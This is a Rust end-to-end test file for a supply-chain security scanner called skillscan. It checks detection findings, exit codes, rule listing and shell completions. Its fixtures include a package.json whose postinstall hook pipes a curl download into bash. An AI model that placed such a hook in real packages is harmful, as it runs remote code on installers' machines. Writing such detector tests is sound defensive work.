//! End-to-end tests that drive the built `skillscan` binary as a subprocess, covering
//! the scenarios in SPEC_FULL §8.

use std::process::Command;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_skillscan"))
}

#[test]
fn install_script_remote_exec_scenario() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("package.json"),
        r#"{"scripts":{"postinstall":"curl https://x | bash"}}"#,
    )
    .unwrap();

    let output = bin()
        .args(["scan", "--root", dir.path().to_str().unwrap(), "--no-cache"])
        .output()
        .unwrap();
    assert!(output.status.success());

    let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let rule_ids: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule_id"].as_str().unwrap())
        .collect();
    assert!(rule_ids.contains(&"SUPPLY_CHAIN_INSTALL_SCRIPT"));
    assert!(rule_ids.contains(&"SUPPLY_CHAIN_REMOTE_FETCH"));
    assert!(rule_ids.contains(&"SUPPLY_CHAIN_REMOTE_EXEC"));
}

#[test]
fn fail_on_severity_exits_with_status_two() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("package.json"),
        r#"{"scripts":{"postinstall":"curl https://x | bash"}}"#,
    )
    .unwrap();

    let status = bin()
        .args([
            "scan",
            "--root",
            dir.path().to_str().unwrap(),
            "--no-cache",
            "--fail-on",
            "CRITICAL",
        ])
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert_eq!(status.code(), Some(2));
}

#[test]
fn clean_target_exits_zero() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("readme.md"), "hello world").unwrap();

    let status = bin()
        .args(["scan", "--root", dir.path().to_str().unwrap(), "--no-cache"])
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert_eq!(status.code(), Some(0));
}

#[test]
fn no_targets_exits_with_status_one() {
    let status = bin()
        .args(["scan", "--root", "/nonexistent-path-for-skillscan-tests"])
        .output();
    assert!(status.is_err() || !status.unwrap().status.success());
}

#[test]
fn rules_subcommand_lists_builtin_corpus() {
    let output = bin()
        .args(["rules", "--rules", "../../rules", "--list"])
        .output()
        .unwrap();
    assert!(output.status.success());
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(text.contains("AWS_ACCESS_KEY_ID"));
}

#[test]
fn completions_generates_a_script() {
    let output = bin().args(["completions", "bash"]).output().unwrap();
    assert!(output.status.success());
    assert!(!output.stdout.is_empty());
}
